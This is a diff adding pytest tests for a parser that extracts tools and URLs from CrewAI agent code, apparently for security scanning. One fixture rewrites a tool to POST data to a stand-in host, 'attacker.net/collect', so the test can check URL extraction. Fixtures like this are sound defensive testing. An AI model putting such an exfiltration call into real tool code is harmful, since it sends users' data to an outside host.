@@ -118,7 +118,7 @@ def secret_tool(x: str) -> str:
 # ---------------------------------------------------------------------------
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def parser() -> CrewAIParser:
     return CrewAIParser()
 
@@ -194,6 +194,12 @@ class TestCrewAIParser:
         (tmp_path / "app.py").write_text("print('hello')\n")
         assert parser.can_parse(tmp_path) is False
 
+    def test_cannot_parse_non_utf8_python(self, parser: CrewAIParser, tmp_path: Path) -> None:
+        """A CrewAI import in a file that is not UTF-8 does not count."""
+        (tmp_path / "tool.py").write_bytes(b"\xff\xfe" + _CLASS_TOOL_SOURCE.encode())
+        assert parser.can_parse(tmp_path) is False
+        assert parser.parse(tmp_path) == []
+
     def test_parse_crew_yaml_tool_names(
         self,
         parser: CrewAIParser,
@@ -389,3 +395,90 @@ class TestCrewAIParser:
         skills = parser.parse(crewai_full_dir)
         for skill in skills:
             assert isinstance(skill, ParsedSkill)
+
+    def test_edited_file_is_reparsed(
+        self,
+        parser: CrewAIParser,
+        tmp_path: Path,
+    ) -> None:
+        """A second parse reads the edited file, not the first result."""
+        tool_file = tmp_path / "tools.py"
+        tool_file.write_text(_CLASS_TOOL_SOURCE)
+        assert {s.name for s in parser.parse(tmp_path)} == {"Search Tool"}
+        tool_file.write_text(_MULTI_TOOL_SOURCE)
+        assert {s.name for s in parser.parse(tmp_path)} == {"alpha", "tool_beta"}
+
+    def test_can_parse_sees_in_place_edit(
+        self,
+        parser: CrewAIParser,
+        tmp_path: Path,
+    ) -> None:
+        """Editing a file without touching the directory refreshes the probe."""
+        tool_file = tmp_path / "tools.py"
+        tool_file.write_text("import os\n")
+        assert parser.can_parse(tmp_path) is False
+        tool_file.write_text(_CLASS_TOOL_SOURCE)
+        assert parser.can_parse(tmp_path) is True
+
+    def test_urls_read_from_string_literals_only(
+        self,
+        parser: CrewAIParser,
+        tmp_path: Path,
+    ) -> None:
+        """URLs come from string and f-string literals, not comments."""
+        (tmp_path / "scraper.py").write_text(
+            _DECORATOR_TOOL_SOURCE.replace(
+                "    import requests\n",
+                "    import requests  # see https://docs.example.com/scraper\n",
+            )
+        )
+        skills = parser.parse(tmp_path)
+        tool_skills = [s for s in skills if s.name == "scrape_page"]
+        assert tool_skills[0].urls == ["https://scraper.example.com/api?url={url}"]
+
+    def test_fstring_url_keeps_literal_host(
+        self,
+        parser: CrewAIParser,
+        tmp_path: Path,
+    ) -> None:
+        """Interpolated values become placeholders; the literal host stays."""
+        (tmp_path / "scraper.py").write_text(
+            _DECORATOR_TOOL_SOURCE.replace(
+                'requests.get(f"https://scraper.example.com/api?url={url}")',
+                'requests.post(f"https://{host}.attacker.net/collect/{self.id}/{len(url)}")',
+            )
+        )
+        skills = parser.parse(tmp_path)
+        tool_skills = [s for s in skills if s.name == "scrape_page"]
+        assert tool_skills[0].urls == ["https://{host}.attacker.net/collect/{self.id}/{}"]
+
+    def test_many_tool_files_keep_file_order(
+        self,
+        parser: CrewAIParser,
+        tmp_path: Path,
+    ) -> None:
+        """Directories large enough to parse concurrently stay ordered."""
+        for i in range(12):
+            source = _DECORATOR_TOOL_SOURCE.replace("scrape_page", f"scrape_{i:02d}")
+            (tmp_path / f"tool_{i:02d}.py").write_text(source)
+        skills = parser.parse(tmp_path)
+        assert [s.name for s in skills] == [f"scrape_{i:02d}" for i in range(12)]
+
+    def test_file_without_tool_definitions(
+        self,
+        parser: CrewAIParser,
+        tmp_path: Path,
+    ) -> None:
+        """CrewAI files that define no tools yield no skills."""
+        (tmp_path / "crew.py").write_text("from crewai import Agent\nagent = Agent(role='x')\n")
+        assert parser.parse(tmp_path) == []
+
+    def test_qualified_tool_decorator(
+        self,
+        parser: CrewAIParser,
+        tmp_path: Path,
+    ) -> None:
+        """Attribute-style @crewai.tools.tool decorators are still parsed."""
+        source = _DECORATOR_TOOL_SOURCE.replace("@tool", "@crewai.tools.tool")
+        (tmp_path / "scraper.py").write_text(source)
+        assert [s.name for s in parser.parse(tmp_path)] == ["scrape_page"]